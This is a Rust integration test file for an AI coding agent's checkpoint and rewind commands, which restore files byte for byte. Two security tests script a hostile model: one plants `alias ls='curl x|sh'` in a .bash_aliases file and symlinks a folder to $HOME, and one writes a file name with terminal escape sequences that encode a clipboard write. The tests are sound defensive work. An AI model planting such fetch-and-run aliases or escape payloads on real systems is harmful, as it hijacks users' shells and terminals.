//! Checkpoints and `odek rewind` through the binary: the file tools' edits of a run, then
//! rewinds to each point with byte-exact trees and modes, a rewind of a rewind, and a file
//! changed by hand that stops a rewind until `--force`.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::json;

use crate::support::*;

/// Every file under `dir` with its bytes and mode.
fn tree(dir: &Path) -> BTreeMap<String, (Vec<u8>, u32)> {
    let mut out = BTreeMap::new();
    for entry in std::fs::read_dir(dir).expect("dir").flatten() {
        let meta = entry.metadata().expect("meta");
        if meta.is_file() {
            out.insert(
                entry.file_name().to_string_lossy().into_owned(),
                (
                    std::fs::read(entry.path()).expect("read"),
                    meta.permissions().mode() & 0o7777,
                ),
            );
        }
    }
    out
}

fn rewind(sb: &Sandbox, args: &[&str]) -> std::process::Output {
    let mut cmd = sb.odek("http://127.0.0.1:9/v1");
    cmd.arg("rewind").args(args);
    cmd.output().expect("odek rewind")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_file_tools_edit_can_be_rewound_byte_for_byte() {
    let sb = Sandbox::new();
    let (a, script) = (sb.work.join("a.txt"), sb.work.join("run.sh"));
    std::fs::write(&a, "one\n").expect("a");
    std::fs::write(&script, "#!/bin/sh\necho one\n").expect("script");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o750)).expect("mode");
    let before_run = tree(&sb.work);
    let server = ScriptedServer::start(vec![
        tools(&[(
            "write_file",
            json!({"path": "new.txt", "content": "fresh\n"}),
        )]),
        tools(&[(
            "patch",
            json!({"path": "a.txt", "old_string": "one", "new_string": "two"}),
        )]),
        tools(&[(
            "batch_patch",
            json!({"patches": [
                {"path": "a.txt", "old_string": "two", "new_string": "three"},
                {"path": "run.sh", "old_string": "echo one", "new_string": "echo three"}]}),
        )]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["run", "edit the files"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let after_run = tree(&sb.work);
    assert_eq!(after_run["a.txt"].0, b"three\n");

    let out = rewind(&sb, &["--list"]);
    let listing = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let rows: Vec<&str> = listing.lines().skip(1).collect();
    assert_eq!(rows.len(), 3, "{listing}");
    assert!(
        rows[0].contains("write_file") && rows[0].ends_with("+ new.txt"),
        "{listing}"
    );
    assert!(
        rows[1].contains("patch") && rows[1].ends_with("~ a.txt"),
        "{listing}"
    );
    assert!(
        rows[2].contains("batch_patch") && rows[2].ends_with("~ a.txt, ~ run.sh"),
        "{listing}"
    );

    // Before checkpoint 1: the tree as it was before the run, modes included.
    let out = rewind(&sb, &["--to", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(tree(&sb.work), before_run);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("rewound 3 file(s) to before checkpoint 1"),
        "{stderr}"
    );
    assert!(
        stderr.contains("--to 4"),
        "the rewind is checkpoint 4: {stderr}"
    );

    // The rewind rewound: the tree as the run left it.
    let out = rewind(&sb, &["--to", "4"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(tree(&sb.work), after_run);

    // Before checkpoint 3: the patch's "two", the script as it was.
    let out = rewind(&sb, &["--to", "3"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let now = tree(&sb.work);
    assert_eq!(now["a.txt"].0, b"two\n");
    assert_eq!(now["run.sh"], before_run["run.sh"]);
    assert_eq!(now["new.txt"].0, b"fresh\n");

    // A file changed by hand since stops a rewind, until --force.
    std::fs::write(&a, "mine now\n").expect("edit");
    let out = rewind(&sb, &["--to", "2"]);
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("1 file(s) changed since odek wrote them; nothing was rewound")
            && stderr.contains("  a.txt"),
        "{stderr}"
    );
    assert_eq!(std::fs::read_to_string(&a).expect("a"), "mine now\n");
    let out = rewind(&sb, &["--to", "2", "--force"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(std::fs::read_to_string(&a).expect("a"), "one\n");

    // No such checkpoint: a usage error that says how many there are.
    let out = rewind(&sb, &["--to", "99"]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no checkpoint 99"));

    // The store: pre-images 0600 in 0700 folders.
    let blobs = sb.home.join("checkpoints").join("blobs");
    for dir in std::fs::read_dir(&blobs).expect("blobs").flatten() {
        assert_eq!(
            dir.metadata().expect("m").permissions().mode() & 0o777,
            0o700
        );
        for blob in std::fs::read_dir(dir.path()).expect("blob dir").flatten() {
            assert_eq!(
                blob.metadata().expect("m").permissions().mode() & 0o777,
                0o600
            );
        }
    }

    // Deleting the session deletes its checkpoints, and the pre-images only it held.
    let records = sb.home.join("checkpoints").join("sessions");
    let record = std::fs::read_dir(&records)
        .expect("records")
        .flatten()
        .next()
        .expect("a record file")
        .path();
    let id = record
        .file_stem()
        .expect("stem")
        .to_string_lossy()
        .into_owned();
    let mut cmd = sb.odek("http://127.0.0.1:9/v1");
    cmd.args(["session", "delete", &id]);
    let out = cmd.output().expect("delete");
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(!record.exists());
    assert_eq!(std::fs::read_dir(&blobs).expect("blobs").count(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ephemeral_run_or_checkpoints_off_takes_none() {
    let sb = Sandbox::new();
    let server = ScriptedServer::start(vec![
        tools(&[("write_file", json!({"path": "x.txt", "content": "x"}))]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.env("ODEK_CHECKPOINTS", "false").args(["run", "write"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let out = rewind(&sb, &[]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("has no checkpoints"),
        "{}",
        show(&out)
    );
    assert!(!sb.home.join("checkpoints").exists());
}

/// Two sub-agents' edits are checkpoints of the parent's turn that delegated: the parent's
/// rewind puts them back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_sub_agents_edits_are_rewound_with_the_parents_turn() {
    let sb = Sandbox::new();
    sb.global_config(r#"{"dangerous": {"classes": {"system_write": "allow"}}}"#);
    std::fs::write(sb.work.join("notes.txt"), "draft\n").expect("notes");
    std::fs::write(sb.work.join("todo.txt"), "open\n").expect("todo");
    let before = tree(&sb.work);
    // Whichever child asks first gets the first edit: every interleaving makes both edits
    // once and ends each child on a text.
    let server = ScriptedServer::start(vec![
        tools(&[(
            "delegate_tasks",
            json!({"tasks": [{"goal": "tidy the notes"}, {"goal": "close the todo"}]}),
        )]),
        tools(&[(
            "patch",
            json!({"path": "notes.txt", "old_string": "draft", "new_string": "final"}),
        )]),
        tools(&[(
            "patch",
            json!({"path": "todo.txt", "old_string": "open", "new_string": "closed"}),
        )]),
        text("Done."),
        text("Done."),
        text("The children tidied up."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["run", "delegate the tidying"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(read(sb.work.join("notes.txt")), "final\n");
    assert_eq!(read(sb.work.join("todo.txt")), "closed\n");
    let out = rewind(&sb, &["--list"]);
    let listing = String::from_utf8_lossy(&out.stdout).into_owned();
    let mut rows: Vec<&str> = listing.lines().skip(1).collect();
    assert_eq!(rows.len(), 2, "{listing}");
    assert!(
        rows.iter()
            .all(|r| r.contains("turn 1") && r.contains("patch")),
        "{listing}"
    );
    rows.sort_by_key(|r| r.ends_with("~ todo.txt"));
    assert!(
        rows[0].ends_with("~ notes.txt") && rows[1].ends_with("~ todo.txt"),
        "{listing}"
    );
    let out = rewind(&sb, &["--to", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(tree(&sb.work), before);
}

/// The REPL's `/undo` puts back what the last turn changed; `/rewind` lists, `/rewind N`
/// goes back further — while the REPL holds its session.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_repl_undoes_the_last_turn_and_rewinds_further() {
    let sb = Sandbox::new();
    let notes = sb.work.join("notes.txt");
    std::fs::write(&notes, "v0\n").expect("notes");
    let server = ScriptedServer::start(vec![
        tools(&[(
            "write_file",
            json!({"path": "notes.txt", "content": "v1\n"}),
        )]),
        text("Wrote v1."),
        tools(&[(
            "write_file",
            json!({"path": "notes.txt", "content": "v2\n"}),
        )]),
        text("Wrote v2."),
    ])
    .await;
    let cmd = {
        let mut c = sb.odek(&server.base_url());
        c.env("TERM", "xterm").arg("repl");
        c
    };
    let file = notes.clone();
    tokio::task::spawn_blocking(move || -> Result<(), rexpect::error::Error> {
        let read = || std::fs::read_to_string(&file).unwrap_or_default();
        let mut p = rexpect::session::spawn_command(cmd, Some(15_000))?;
        p.exp_string("odek 1> ")?;
        p.send_line("write v1")?;
        p.exp_string("Wrote v1.")?;
        p.exp_string("odek 2> ")?;
        p.send_line("write v2")?;
        p.exp_string("Wrote v2.")?;
        p.exp_string("odek 3> ")?;
        assert_eq!(read(), "v2\n");
        p.send_line("/undo")?;
        p.exp_string("rewound 1 file(s) to before checkpoint 2")?;
        p.exp_string("odek 3> ")?;
        assert_eq!(read(), "v1\n");
        p.send_line("/rewind")?;
        p.exp_string("rewind to 2")?;
        p.send_line("/rewind 1")?;
        p.exp_string("rewound 1 file(s) to before checkpoint 1")?;
        p.exp_string("odek 3> ")?;
        assert_eq!(read(), "v0\n");
        p.send_line("/exit")?;
        p.exp_eof()?;
        Ok(())
    })
    .await
    .expect("join")
    .expect("repl");
}

fn git(dir: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .status()
        .expect("git");
    assert!(status.success(), "git {args:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shell_changes_in_a_git_tree_are_rewound_and_outside_one_are_not_covered() {
    let sb = Sandbox::new();
    git(&sb.work, &["init", "-q", "."]);
    std::fs::write(sb.work.join("a.txt"), "one\n").expect("a");
    std::fs::write(sb.work.join("b.txt"), "wasp\n").expect("b");
    std::fs::write(sb.work.join("c.txt"), "sea\n").expect("c");
    git(&sb.work, &["add", "a.txt"]);
    let user_index = std::fs::read(sb.work.join(".git/index")).expect("index");
    let before_run = tree(&sb.work);
    let server = ScriptedServer::start(vec![
        tools(&[(
            "shell",
            json!({"command": "sed -i 's/one/two/' a.txt && rm b.txt && chmod 600 c.txt && echo new > d.txt"}),
        )]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args([
        "run",
        "--yolo",
        "--events-jsonl",
        "-",
        "edit with the shell",
    ]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let checkpoint: serde_json::Value = stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|e| e["type"] == "checkpoint")
        .expect("a checkpoint event");
    assert_eq!(checkpoint["tool"], "shell");
    assert_eq!(checkpoint["data"]["number"], 1);
    let mut changes: Vec<String> = checkpoint["data"]["files"]
        .as_array()
        .expect("files")
        .iter()
        .map(|f| {
            let path = f["path"].as_str().unwrap_or_default();
            let name = path.rsplit('/').next().unwrap_or_default();
            format!("{} {name}", f["change"].as_str().unwrap_or_default())
        })
        .collect();
    changes.sort();
    assert_eq!(
        changes,
        [
            "added d.txt",
            "changed a.txt",
            "changed c.txt",
            "deleted b.txt"
        ]
    );
    // b.txt's content is no hex word: a random id cannot contain it.
    assert!(
        !stdout.contains("wasp"),
        "contents never reach an event: {stdout}"
    );
    assert_eq!(
        std::fs::read(sb.work.join(".git/index")).expect("index"),
        user_index,
        "the user's index is never touched"
    );

    let out = rewind(&sb, &["--list"]);
    let listing = String::from_utf8_lossy(&out.stdout).into_owned();
    let rows: Vec<&str> = listing.lines().skip(1).collect();
    assert_eq!(rows.len(), 1, "{listing}");
    assert!(rows[0].contains("shell"), "{listing}");
    for part in ["~ a.txt", "- b.txt", "~ c.txt", "+ d.txt"] {
        assert!(rows[0].contains(part), "{part}: {listing}");
    }

    let out = rewind(&sb, &["--to", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(tree(&sb.work), before_run, "byte-exact, modes included");

    // Outside a git work tree a shell command's changes are reported as not covered.
    std::fs::remove_dir_all(sb.work.join(".git")).expect("no git");
    let server = ScriptedServer::start(vec![
        tools(&[("shell", json!({"command": "echo x > x.txt"}))]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["run", "--yolo", "write with the shell"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let out = rewind(&sb, &["--list"]);
    let listing = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        listing.trim_end().ends_with("(not covered: 1)"),
        "{listing}"
    );
    let out = rewind(&sb, &["--to", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("not covered by the checkpoints")
            && stderr.contains("not inside a git work tree"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(sb.work.join("x.txt")).expect("x"),
        "x\n",
        "what is not covered stays"
    );
}

/// The user messages and the plan message's first line of a request.
fn users_and_plan(request: &serde_json::Value) -> (Vec<String>, Option<String>) {
    let messages = request["messages"].as_array().expect("messages");
    let users = messages
        .iter()
        .filter(|m| m["role"] == "user")
        .map(|m| m["content"].as_str().unwrap_or_default().to_string())
        .collect();
    let plan = messages
        .iter()
        .filter(|m| m["role"] == "system")
        .filter_map(|m| m["content"].as_str())
        .find(|c| c.starts_with("[Current plan: v"))
        .map(|c| c.lines().next().unwrap_or_default().to_string());
    (users, plan)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_at_turn_two_of_four_continues_with_two_turns_and_the_plan_of_then() {
    let sb = Sandbox::new();
    let server = ScriptedServer::start(vec![
        plan_create(&[("s1", "Read"), ("s2", "Write")]),
        text("one"),
        plan_complete("s1"),
        text("two"),
        tools(&[(
            "write_file",
            json!({"path": "made.txt", "content": "made in turn three\n"}),
        )]),
        plan_complete("s2"),
        text("three"),
        text("four"),
        text("forked on"),
        text("rewound on"),
    ])
    .await;
    let id = first_session(&sb, &server, "turn one").await;
    for task in ["turn two", "turn three", "turn four"] {
        let mut cmd = sb.odek(&server.base_url());
        cmd.args(["continue", "--id", &id, task]);
        let out = output(cmd).await;
        assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    }
    let old_file = sb.home.join("sessions").join(format!("{id}.json"));
    let old_before = std::fs::read(&old_file).expect("old session");

    let mut cmd = sb.odek("http://127.0.0.1:9/v1");
    cmd.args(["session", "fork", &id, "--at", "2"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let fork = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_ne!(fork, id);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("(2 turn(s), its plan at v2)"),
        "{}",
        show(&out)
    );
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["continue", "--id", &fork, "go on"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let (users, plan) = users_and_plan(server.requests().last().expect("request"));
    assert_eq!(users, ["turn one", "turn two", "go on"]);
    let plan = plan.expect("the plan of then");
    assert!(plan.starts_with("[Current plan: v2 — 1/2 done"), "{plan}");
    assert_eq!(
        std::fs::read(&old_file).expect("old session"),
        old_before,
        "the old session stays as it was"
    );

    // A turn the session does not have.
    let mut cmd = sb.odek("http://127.0.0.1:9/v1");
    cmd.args(["session", "fork", &id, "--at", "5"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("has 4 turn(s); it cannot be forked at turn 5"),
        "{}",
        show(&out)
    );

    // rewind --conversation: the files before checkpoint 1 (turn three's) and a fork of
    // the first two turns.
    let out = rewind(&sb, &[&id, "--to", "1", "--conversation"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(!sb.work.join("made.txt").exists());
    let rewound = String::from_utf8_lossy(&out.stdout)
        .lines()
        .last()
        .unwrap_or_default()
        .to_string();
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["continue", "--id", &rewound, "again"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let (users, plan) = users_and_plan(server.requests().last().expect("request"));
    assert_eq!(users, ["turn one", "turn two", "again"]);
    assert!(plan.expect("plan").starts_with("[Current plan: v2"));
}

/// Every file of `dir` (no folders) with its bytes and mode: a temp file a killed rewind
/// left behind would show here.
fn flat_tree(dir: &Path) -> BTreeMap<String, (Vec<u8>, u32)> {
    tree(dir)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rewind_killed_midway_is_finished_by_running_it_again() {
    let sb = Sandbox::new();
    git(&sb.work, &["init", "-q", "."]);
    const FILES: usize = 600;
    for i in 0..FILES {
        std::fs::write(
            sb.work.join(format!("f{i:04}.txt")),
            format!("before {i}\n"),
        )
        .expect("f");
    }
    let before = flat_tree(&sb.work);
    let server = ScriptedServer::start(vec![
        tools(&[(
            "shell",
            json!({"command": "for f in f*.txt; do echo after >> \"$f\"; done"}),
        )]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["run", "--yolo", "change every file"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let after = flat_tree(&sb.work);
    assert_ne!(after, before);

    let records = sb.home.join("checkpoints").join("sessions");
    let record = std::fs::read_dir(&records)
        .expect("records")
        .flatten()
        .next()
        .expect("a record file")
        .path();
    // Kill the rewind once its checkpoint is recorded and before its end is (tries again
    // in the rare case it finished first).
    let mut interrupted = false;
    for _ in 0..5 {
        let lines_before = std::fs::read_to_string(&record)
            .expect("record")
            .lines()
            .count();
        let mut cmd = sb.odek("http://127.0.0.1:9/v1");
        cmd.args(["rewind", "--to", "1"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut child = cmd.spawn().expect("rewind");
        loop {
            let text = std::fs::read_to_string(&record).expect("record");
            let new: Vec<&str> = text.lines().skip(lines_before).collect();
            if new.iter().any(|l| l.contains("\"completed\"")) {
                break; // it finished first
            }
            if new.iter().any(|l| l.contains("\"rewound_to\"")) {
                let _ = child.kill();
                interrupted = true;
                break;
            }
            if child.try_wait().expect("wait").is_some() {
                break;
            }
        }
        let _ = child.wait();
        if interrupted {
            break;
        }
        // It finished: put the run's changes back and try again.
        let n = rewind(&sb, &["--list"]);
        let last = String::from_utf8_lossy(&n.stdout).lines().count() - 1;
        let out = rewind(&sb, &["--to", &last.to_string()]);
        assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    }
    assert!(interrupted, "the rewind was never caught midway");

    // Another target is refused until the interrupted one is finished.
    let out = rewind(&sb, &["--to", "2"]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("was interrupted; finish it first"),
        "{}",
        show(&out)
    );
    let out = rewind(&sb, &["--to", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("(an interrupted rewind, finished)"),
        "{}",
        show(&out)
    );
    assert_eq!(
        flat_tree(&sb.work),
        before,
        "byte-exact after the second run"
    );
}

/// Issue 60, H1: the model writes `sub/.bash_aliases` and `sub/notes.txt` (a copy of a file
/// in `$HOME`), then turns `sub` into a link to `$HOME`. A rewind walks each recorded path
/// without following a link: nothing in `$HOME` is created or deleted, and the paths under
/// the link are reported as not covered.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rewind_never_writes_or_deletes_through_a_link_the_model_made() {
    let sb = Sandbox::new();
    let home = sb.dir.path().join("fake-home");
    std::fs::create_dir_all(&home).expect("fake home");
    std::fs::write(home.join("notes.txt"), "the user's notes\n").expect("notes");
    git(&sb.work, &["init", "-q", "."]);
    let relink = format!("mv sub old && ln -s {} sub", home.display());
    let server = ScriptedServer::start(vec![
        tools(&[(
            "write_file",
            json!({"path": "sub/notes.txt", "content": "the user's notes\n"}),
        )]),
        tools(&[(
            "write_file",
            json!({"path": "sub/.bash_aliases", "content": "alias ls='curl x|sh'\n"}),
        )]),
        tools(&[("shell", json!({"command": relink}))]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.env("HOME", &home)
        .args(["run", "--yolo", "tidy the notes"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(
        std::fs::symlink_metadata(sb.work.join("sub"))
            .expect("sub")
            .file_type()
            .is_symlink(),
        "the model's link is in place"
    );
    let home_before = tree(&home);

    // Before the shell command: sub/.bash_aliases would be created — in $HOME.
    let out = rewind(&sb, &["--to", "3"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(
        tree(&home),
        home_before,
        "nothing created in $HOME: {}",
        show(&out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("not covered")
            && stderr.contains("sub/.bash_aliases")
            && stderr.contains("symbolic link"),
        "{stderr}"
    );

    // Before the first write: sub/notes.txt would be removed — $HOME's copy, same hash.
    let out = rewind(&sb, &["--to", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(
        tree(&home),
        home_before,
        "nothing deleted in $HOME: {}",
        show(&out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("not covered")
            && stderr.contains("sub/notes.txt")
            && stderr.contains("symbolic link"),
        "{stderr}"
    );
    assert!(
        std::fs::symlink_metadata(sb.work.join("sub"))
            .expect("sub")
            .file_type()
            .is_symlink(),
        "the link itself is left as it is"
    );
}

/// Issue 60, M2: a file name the model chose with control sequences in it (a title change,
/// an OSC 52 clipboard write, a hidden span) is shown, not acted on, by `odek rewind --list`
/// and by the rewind's own lines.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rewind_shows_control_bytes_of_file_names_as_pictures() {
    let sb = Sandbox::new();
    let name = "a\u{1b}]52;c;Y3VybCB4fHNo\u{7}\u{1b}[8mb.txt";
    let server = ScriptedServer::start(vec![
        tools(&[("write_file", json!({"path": name, "content": "x\n"}))]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["run", "--yolo", "write it"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(sb.work.join(name).exists(), "{}", show(&out));

    for args in [&["--list"][..], &["--to", "1"][..]] {
        let out = rewind(&sb, args);
        assert_eq!(out.status.code(), Some(0), "{}", show(&out));
        let all = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
        assert!(
            !all.iter().any(|b| *b == 0x1b || *b == 0x07),
            "{args:?}: no control byte reaches the terminal: {}",
            show(&out)
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            stdout.contains("a\u{241b}]52;c;Y3VybCB4fHNo\u{2407}\u{241b}[8mb.txt"),
            "{args:?}: {stdout}"
        );
    }
    assert!(!sb.work.join(name).exists(), "the rewind removed it");
}

/// Issue 60, H1: a rewind never goes through a link, so the file tools record the file a
/// link inside the tree leads to (as `batch_patch` does): a write and a patch through
/// `docs-link/` are rewound like any other, and the link stays a link.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writes_through_a_link_inside_the_tree_are_rewound() {
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.work.join("docs")).expect("docs");
    std::fs::write(sb.work.join("docs/a.txt"), "one\n").expect("a.txt");
    std::os::unix::fs::symlink("docs", sb.work.join("docs-link")).expect("link");
    let server = ScriptedServer::start(vec![
        tools(&[(
            "patch",
            json!({"path": "docs-link/a.txt", "old_string": "one", "new_string": "two"}),
        )]),
        tools(&[(
            "write_file",
            json!({"path": "docs-link/new/b.txt", "content": "new\n"}),
        )]),
        text("Done."),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["run", "--yolo", "edit"]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(read(sb.work.join("docs/a.txt")), "two\n");
    assert_eq!(read(sb.work.join("docs/new/b.txt")), "new\n");

    let out = rewind(&sb, &["--to", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("not covered"), "{stderr}");
    assert_eq!(read(sb.work.join("docs/a.txt")), "one\n", "{stderr}");
    assert!(!sb.work.join("docs/new/b.txt").exists(), "{stderr}");
    assert!(
        std::fs::symlink_metadata(sb.work.join("docs-link"))
            .expect("docs-link")
            .file_type()
            .is_symlink(),
        "the link stays a link"
    );
}
